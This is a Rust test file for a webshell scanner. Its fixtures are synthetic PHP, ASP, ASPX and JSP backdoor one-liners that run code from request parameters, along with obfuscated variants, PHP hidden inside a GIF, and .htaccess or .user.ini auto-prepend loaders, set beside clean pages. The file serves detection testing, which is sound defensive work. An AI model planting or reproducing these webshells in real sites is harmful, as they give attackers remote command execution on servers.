//! Webshell fixtures: minimal synthetic one-liners that exhibit each pattern (and obfuscated
//! variants), and ordinary code that must stay clean.

mod common;

use common::scanner;
use lexguard_sitescan::{Finding, Kind};

fn shells(name: &str, content: &[u8]) -> Vec<Finding> {
    scanner().scan_bytes(name, content).into_iter().filter(|f| f.kind == Kind::Webshell).collect()
}

fn high(name: &str, content: &[u8]) -> Vec<Finding> {
    shells(name, content).into_iter().filter(|f| f.category.as_deref() == Some("backdoor")).collect()
}

#[test]
fn php_one_liners_and_variants() {
    let cases: &[(&str, &str)] = &[
        ("php.eval-request", r#"<?php @eval($_POST['pass']);?>"#),
        ("php.eval-request", r#"<?php eval/*x*/ ( $_REQUEST [ 'a' ] ) ; ?>"#),
        ("php.eval-request", r#"<?php assert(stripslashes($_GET["x"])); ?>"#),
        ("php.eval-request", r#"<?php $c = $_COOKIE['k']; $d = $c; eval($d); ?>"#),
        ("php.eval-request", r#"<?php eval(${"_PO"."ST"}['z']); eval(${'_POST'}['z']); ?>"#),
        ("php.exec-request", r#"<?php system($_GET['cmd']); ?>"#),
        ("php.exec-request", r#"<?php $x = $_POST['c']; echo shell_exec('cd /tmp;' . $x); ?>"#),
        ("php.exec-request", r#"<?php passthru(base64_decode($_REQUEST['c'])); ?>"#),
        ("php.backtick-request", "<?php echo `$_GET[c]`; ?>"),
        ("php.create-function-request", r#"<?php $f = create_function('', $_POST['code']); $f(); ?>"#),
        ("php.eval-decode-chain", r#"<?php eval(gzinflate(base64_decode('S0ktLlGyUlAqSS0uUbIGAA=='))); ?>"#),
        ("php.eval-decode-chain", r#"<?php eval(str_rot13('riny($_CBFG[1]);')); ?>"#),
        ("php.preg-replace-e", r#"<?php preg_replace("/.*/e", $_POST['code'], ''); ?>"#),
        ("php.callback-request", r#"<?php array_map('assert', (array)$_REQUEST['a']); ?>"#),
        ("php.callback-request", r#"<?php call_user_func($_GET['f'], $_GET['a']); ?>"#),
        ("php.callback-request", r#"<?php register_shutdown_function($_POST['f'], 'x'); ?>"#),
        ("php.variable-function-request", r#"<?php $_GET['f']($_GET['a']); ?>"#),
        ("php.assembled-call", r#"<?php $f = 'as'.'se'.'rt'; $f($_POST['x']); ?>"#),
        ("php.assembled-call", r#"<?php $f = str_rot13('flfgrz'); $f($_GET['c']); ?>"#),
        ("php.assembled-call", r#"<?php $f = "\x73\x79\x73\x74\x65\x6d"; $f($_REQUEST['c']); ?>"#),
        ("php.include-request", r#"<?php include($_GET['page']); ?>"#),
        // A callback name assembled from literals; reflection; an alias of the request array.
        ("php.callback-request", r#"<?php array_map('ass'.'ert', array($_REQUEST['x'])); ?>"#),
        ("php.reflection-request", r#"<?php (new ReflectionFunction($_GET['f']))->invoke($_GET['a']); ?>"#),
        ("php.assembled-call", r#"<?php $x = $_GET; $x['f']($x['a']); ?>"#),
        // Uploaders: a file named by the request is written.
        ("php.write-request-path", r#"<?php file_put_contents($_GET['f'], $_POST['c']); ?>"#),
        ("php.write-request-path", r#"<?php $n = $_POST['n']; fwrite(fopen($n, 'wb'), $_POST['d']); ?>"#),
        // The request made variables, and a variable called.
        ("php.extract-request-call", r#"<?php $a = $_POST; extract($a); $b($c); ?>"#),
        ("php.extract-request-call", r#"<?php extract($_REQUEST); @$f($p); ?>"#),
        // Function names from implode; object injection into a class that evaluates; mb_ereg e.
        ("php.assembled-call", r#"<?php $f = implode('', array('s','y','s','t','e','m')); $f($_GET['c']); ?>"#),
        (
            "php.unserialize-gadget",
            r#"<?php class X { function __destruct() { eval($this->c); } } $o = unserialize($_POST['o']); ?>"#,
        ),
        ("php.mb-ereg-e", r#"<?php mb_ereg_replace('.*', $_REQUEST['p'], '', 'e'); ?>"#),
    ];
    for (rule, code) in cases {
        let f = high("shell.php", code.as_bytes());
        assert!(f.iter().any(|f| f.rule == format!("webshell:{rule}")), "{rule} not found in {code}: {f:#?}");
        assert!(f.iter().all(|f| f.severity >= 4 && f.line == Some(1)));
    }
}

#[test]
fn lines_count_the_comments_before_a_shell() {
    // The rules read the code with its comments blanked out; the line is the file's own.
    let code = "<?php\n/*\n * License header\n * over lines\n */\n// a line comment\neval($_GET['x']);\n";
    let f = high("shell.php", code.as_bytes());
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!((f[0].line, f[0].column), (Some(7), Some(1)));
}

/// ASP.NET and JSP read a file in UTF-16 with a byte order mark like any other: a shell saved
/// so must not slip past rules written for bytes.
#[test]
fn utf16_shells_are_found_and_located_in_the_file() {
    let cases = [
        (
            "a.aspx",
            "aspx.eval-request",
            "<%@ Page Language=\"Jscript\"%>\n<%eval(Request.Item[\"pass\"],\"unsafe\");%>",
        ),
        ("a.jsp", "jsp.exec-request", "<%-- 页面 --%>\n<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"),
    ];
    for (name, rule, code) in cases {
        for big in [false, true] {
            let bytes: Vec<u8> = std::iter::once(0xfeff)
                .chain(code.encode_utf16())
                .flat_map(|u: u16| if big { u.to_be_bytes() } else { u.to_le_bytes() })
                .collect();
            let f = high(name, &bytes);
            let f = f.iter().find(|f| f.rule == format!("webshell:{rule}")).unwrap_or_else(|| panic!("{rule}: {f:#?}"));
            assert_eq!(f.line, Some(2), "{rule}");
            let [s, e] = f.span.unwrap().bytes;
            let enc = if big { encoding_rs::UTF_16BE } else { encoding_rs::UTF_16LE };
            let found = enc.decode_without_bom_handling(&bytes[s..e]).0;
            let at = code.find(&*found).unwrap_or_else(|| panic!("{rule}: {found:?} not in the code"));
            // The span starts where the match starts in the text, two bytes per code unit.
            assert_eq!(s, 2 + 2 * code[..at].encode_utf16().count(), "{rule}");
            assert_eq!(f.column, Some(code[..at].rsplit('\n').next().unwrap().encode_utf16().count() + 1), "{rule}");
        }
    }
}

#[test]
fn asp_aspx_jsp_one_liners() {
    let cases: &[(&str, &str, &str)] = &[
        ("a.asp", "asp.eval-request", r#"<%eval request("pass")%>"#),
        ("a.asp", "asp.eval-request", r#"<% Execute(Request.Form("c")) %>"#),
        ("a.asp", "asp.eval-request", r#"<% ExecuteGlobal request.item("c") %>"#),
        ("a.aspx", "aspx.eval-request", r#"<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>"#),
        (
            "a.aspx",
            "aspx.assembly-load-base64",
            r#"<%@ Page Language="C#" %><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"])).CreateInstance("U").Equals(this); %>"#,
        ),
        (
            "a.aspx",
            "aspx.process-request",
            r#"<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>"#,
        ),
        ("a.jsp", "jsp.exec-request", r#"<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>"#),
        (
            "a.jsp",
            "jsp.exec-request",
            r#"<% String c = request.getParameter("c"); new ProcessBuilder(request.getParameter("c")).start(); %>"#,
        ),
        // Through a variable set from the request; process arguments; a script engine.
        ("a.asp", "asp.eval-variable", r#"<% Dim c : c = Request.Item("c") : ExecuteGlobal(c) %>"#),
        ("a.asp", "asp.eval-variable-statement", r#"<% Dim c : c = Request.Item("c") : ExecuteGlobal c %>"#),
        ("a.asp", "asp.eval-variable-statement", "<%\r\nx = Request.Form(\"x\")\r\nExecute x\r\n%>"),
        (
            "a.aspx",
            "aspx.process-arguments-request",
            r#"<% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request["c"]; p.Start(); %>"#,
        ),
        (
            "a.jsp",
            "jsp.exec-request",
            r#"<% String c = request.getParameter("c"); String d = "-c"; Process p = new ProcessBuilder("sh", d, c).start(); %>"#,
        ),
        (
            "a.jsp",
            "jsp.script-eval-request",
            r#"<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); e.eval(request.getParameter("x")); %>"#,
        ),
        (
            "a.jsp",
            "jsp.defineclass-base64",
            r#"<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% new U().g(java.util.Base64.getDecoder().decode(request.getReader().readLine())); %>"#,
        ),
    ];
    for (name, rule, code) in cases {
        let f = high(name, code.as_bytes());
        assert!(f.iter().any(|f| f.rule == format!("webshell:{rule}")), "{rule} not found: {f:#?}");
    }
}

#[test]
fn php_inside_an_image() {
    let mut gif = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04".to_vec();
    gif.extend_from_slice(b"<?php @eval($_POST['x']); ?>");
    let f = high("logo.gif", &gif);
    assert!(f.iter().any(|f| f.rule == "webshell:image.php-code"), "{f:#?}");
    // Named .jpg but any image magic counts; a plain image stays clean.
    assert!(high("logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR").is_empty());
    let f = high(".htaccess", b"AddType application/x-httpd-php .jpg\n");
    assert!(f.iter().any(|f| f.rule == "webshell:htaccess.php-handler"), "{f:#?}");
}

/// Names a server runs as code although their last extension says otherwise, and "images"
/// that are PHP text.
#[test]
fn shells_behind_other_extensions() {
    let shell = b"<?php @eval($_POST['x']); ?>";
    for name in ["shell.php.jpg", "x.php.txt", "logo.PHP.png", "c.jpg", "avatar.gif", "upload.php5.bak"] {
        let f = high(name, shell);
        assert!(!f.is_empty(), "{name}");
    }
    // IIS 6 runs `x.asp;.jpg` as ASP.
    let f = high("x.asp;.jpg", br#"<%eval request("pass")%>"#);
    assert!(f.iter().any(|f| f.rule == "webshell:asp.eval-request"), "{f:#?}");
    // Not code: other double extensions, and text that is not PHP in an image name.
    assert!(shells("jquery.inc.js", b"var p = location.search; eval(p);").is_empty());
    assert!(shells("notes.jpg", b"just some text, <? not php").is_empty());
    assert!(shells("archive.tar.gz", shell).is_empty());
}

#[test]
fn review_tier() {
    let kit = r#"<?php
        if (isset($_POST['go'])) {
            echo php_uname();
            move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']);
            $s = fsockopen($_POST['h'], 80);
            echo system('id');
        }
    ?>"#;
    let f = shells("kit.php", kit.as_bytes());
    let cap = f.iter().find(|f| f.rule == "webshell:php.capabilities").expect("capabilities");
    assert_eq!(cap.category.as_deref(), Some("suspicious"));
    assert!(cap.severity <= 3);
    let mut blob = String::from("<?php $d = '");
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut x: u32 = 12345;
    for _ in 0..3000 {
        x = x.wrapping_mul(1103515245).wrapping_add(12345);
        blob.push(alphabet[(x >> 16) as usize % 64] as char);
    }
    blob.push_str("'; $k = strrev($d); ?>");
    let f = shells("blob.php", blob.as_bytes());
    assert!(
        f.iter().any(|f| f.rule == "webshell:code.high-entropy" && f.category.as_deref() == Some("obfuscated")),
        "{f:#?}"
    );
}

#[test]
fn ordinary_php_stays_clean() {
    let cases: &[(&str, &str)] = &[
        ("login.php", r#"<?php
session_start();
$user = isset($_POST['user']) ? trim($_POST['user']) : '';
$stmt = $pdo->prepare('SELECT id, hash FROM users WHERE name = ?');
$stmt->execute([$user]);
$row = $stmt->fetch();
if ($row && password_verify($_POST['pass'], $row['hash'])) { $_SESSION['uid'] = $row['id']; header('Location: /'); exit; }
?><form method="post"><input name="user"><input type="password" name="pass"><button>登录</button></form>"#),
        ("template.php", r#"<!DOCTYPE html><html><head><title><?php echo htmlspecialchars($title); ?></title></head>
<body class="<?php body_class(); ?>"><?php foreach ($posts as $p): ?><h2><a href="<?= $p->url ?>"><?= esc_html($p->title) ?></a></h2><?php endforeach; ?>
<?php include __DIR__ . '/footer.php'; ?></body></html>"#),
        ("image.php", r#"<?php
$w = (int) $_GET['w'];
$src = imagecreatefromjpeg('photos/' . basename($_GET['f']));
$dst = imagescale($src, max(16, min($w, 1024)));
header('Content-Type: image/jpeg');
imagejpeg($dst);
?>"#),
        ("backup.php", r#"<?php
$file = escapeshellarg($_POST['name']);
exec('tar czf /backups/' . $file . '.tgz /var/www/uploads', $out, $rc);
$dir = escapeshellarg($_GET['d']);
system("ls -l $dir");
?>"#),
        ("db.php", r#"<?php $db->exec("DELETE FROM cache WHERE k = " . $db->quote($_GET['k'])); $r = array_map('intval', $_POST['ids']); usort($items, function ($a, $b) { return $a['n'] <=> $b['n']; }); ?>"#),
        ("cb.php", r#"<?php $handlers = ['a' => 'on_a']; call_user_func($handlers[$name], $_POST); array_filter($_POST['tags'], 'is_string'); ?>"#),
        ("icons.php", &format!("<?php $icon = 'data:image/svg+xml;base64,{}'; ?>", "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHZpZXdCb3g9IjAgMCAyMCAyMCI+PHBhdGggZmlsbD0iYmxhY2siIGQ9Ik0xMCAyYTggOCAwIDEgMCAwIDE2IDggOCAwIDAgMCAwLTE2eiIvPjwvc3ZnPg==".repeat(8))),
        ("comment.php", "<?php /* run: eval($_POST[x]) is what attackers do */ echo 'ok'; ?>"),
        ("comments.php", "<?php /* a */ echo 1; /* eval($_POST[x]) */ echo 2; /* then: eval($_GET['c'])"),
        // Files read by a requested name, written at a fixed one; reflection of a closure;
        // variables extracted from a database row; a callback kept in a variable.
        ("files.php", r#"<?php $h = fopen($_GET['f'], 'r'); $t = fopen($_GET['g'], "rb"); file_put_contents(__DIR__ . '/cache/' . md5($_GET['k']), $_POST['v']); ?>"#),
        ("reflect.php", r#"<?php $r = new ReflectionFunction($callback); echo $r->getNumberOfParameters(); $q = $_GET['q']; ?>"#),
        ("session.php", r#"<?php class Cart { function __wakeup() { $this->n = count($this->items); } } $c = unserialize($_SESSION['cart']); $q = $_GET['q']; echo implode(', ', $tags); ?>"#),
        ("view.php", r#"<?php extract($row); $fmt = 'strtoupper'; echo $fmt($title); $id = (int) $_GET['id']; ?>"#),
        // A `$file` from the request in one function is not the `$file` another writes.
        ("media.php", &format!(
            "<?php\nfunction show() {{ $file = $_GET['f']; echo basename($file); }}\n{}\nfunction save($url, $file) {{ $fp = @fopen($file, \"w\"); fwrite($fp, fetch($url)); }}\n",
            "// helpers\n".repeat(120)
        )),
    ];
    for (name, code) in cases {
        let f = high(name, code.as_bytes());
        assert!(f.is_empty(), "{name}: {f:#?}");
    }
}

#[test]
fn code_between_block_comments_is_still_checked() {
    let code = "<?php /* a */ echo 1; /* b */ @eval($_POST['c']); /* eval($_GET['d'])";
    let f = high("between.php", code.as_bytes());
    assert_eq!(f.len(), 1, "{f:#?}");
    assert_eq!(f[0].rule, "webshell:php.eval-request");
    let at = code.find("eval($_POST").unwrap();
    assert_eq!(f[0].span.as_ref().map(|s| s.bytes[0]), Some(at), "{f:#?}");
}

/// `auto_prepend_file` makes every PHP page of a directory run a file first: a loader when
/// that file is an image, a text, a temporary or a remote file.
#[test]
fn auto_prepended_loaders() {
    for (name, conf) in [
        (".htaccess", "php_value auto_prepend_file \"/var/www/uploads/2024/logo.png\"\n"),
        (".htaccess", "<IfModule mod_php7.c>\n  php_value auto_append_file /tmp/.sess_x\n</IfModule>\n"),
        (".user.ini", "auto_prepend_file = data://text/plain;base64,PD9waHA=\n"),
        (".user.ini", "auto_prepend_file=cache/.1.txt\n"),
    ] {
        let f = high(name, conf.as_bytes());
        assert!(f.iter().any(|f| f.rule == "webshell:htaccess.auto-prepend"), "{conf}: {f:#?}");
    }
    // Wordfence's firewall: a script, review tier; "none" and comments: nothing.
    let conf = b"; Wordfence WAF\nauto_prepend_file = '/var/www/html/wordfence-waf.php'\n";
    assert!(high(".user.ini", conf).is_empty());
    assert!(shells(".user.ini", conf).iter().any(|f| f.rule == "webshell:htaccess.auto-prepend-script"));
    for conf in ["auto_prepend_file = none\n", "# php_value auto_prepend_file /tmp/x.png\n", "memory_limit = 256M\n"] {
        assert!(shells(".user.ini", conf.as_bytes()).is_empty(), "{conf}");
        assert!(shells(".htaccess", conf.as_bytes()).is_empty(), "{conf}");
    }
}

/// Ordinary ASP, ASP.NET and JSP pages that read the request stay clean: a variable from the
/// request is not executed, and what is executed is not from the request.
#[test]
fn ordinary_asp_aspx_jsp_stay_clean() {
    let cases: &[(&str, &str)] = &[
        (
            "page.asp",
            r#"<% Dim id : id = CInt(Request.QueryString("id")) : Dim t : t = "Response.Write 1" : Execute(t) : Execute t : Response.Write id %>"#,
        ),
        (
            "run.aspx",
            r#"<% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "backup.exe"; p.StartInfo.Arguments = "--quiet"; p.Start(); var n = Request["n"]; %>"#,
        ),
        (
            "view.jsp",
            r#"<% String q = request.getParameter("q"); out.println(org.owasp.encoder.Encode.forHtml(q)); Process p = new ProcessBuilder("date").start(); %>"#,
        ),
        (
            "calc.jsp",
            r#"<% javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js"); Object r = e.eval("1 + 2"); String who = request.getParameter("who"); %>"#,
        ),
    ];
    for (name, code) in cases {
        let f = high(name, code.as_bytes());
        assert!(f.is_empty(), "{name}: {f:#?}");
    }
}
